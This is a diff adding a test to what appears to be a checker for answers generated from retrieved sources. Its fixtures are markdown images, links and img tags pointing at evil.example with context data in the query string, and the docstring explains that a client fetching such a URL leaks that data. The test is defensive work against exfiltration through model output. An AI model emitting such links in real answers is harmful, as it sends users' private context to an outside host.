@@ -56,6 +56,18 @@ def test_citations_must_point_at_given_visible_chunks() -> None:
         "unsupported_statement"
 
 
+def test_an_address_the_sources_do_not_hold_makes_a_generated_answer_unusable() -> None:
+    """A rendered `![x](url)` is fetched by the client: the URL could carry context data to another host."""
+    visible = {1, 2}
+    sourced = {**GIVEN, 2: "Claims go through https://expenses.intranet.example/claims within 30 days."}
+    for address in ["![logo](https://evil.example/p.png?q=180-euros)", "[more](//evil.example/x?q=180)",
+                    "www.evil.example/180-euros", '<img src="http://evil.example/q?180">']:
+        answer = f"Hotels are reimbursed up to 180 euros per night {address} [1]."
+        assert check_generated(answer, GIVEN, visible) == "url_outside_context", address
+    assert check_generated("File claims at https://expenses.intranet.example/claims within 30 days [2].", sourced,
+                           visible) is None
+
+
 def test_prompt_keeps_to_its_budget_and_delimits_sources() -> None:
     chunks = [PromptChunk(n=i, title=f"doc {i}", text="word " * 200) for i in range(1, 6)]
     prompt = build_prompt("How long?", chunks, {"hr": CANARIES["hr"]}, budget_tokens=700,
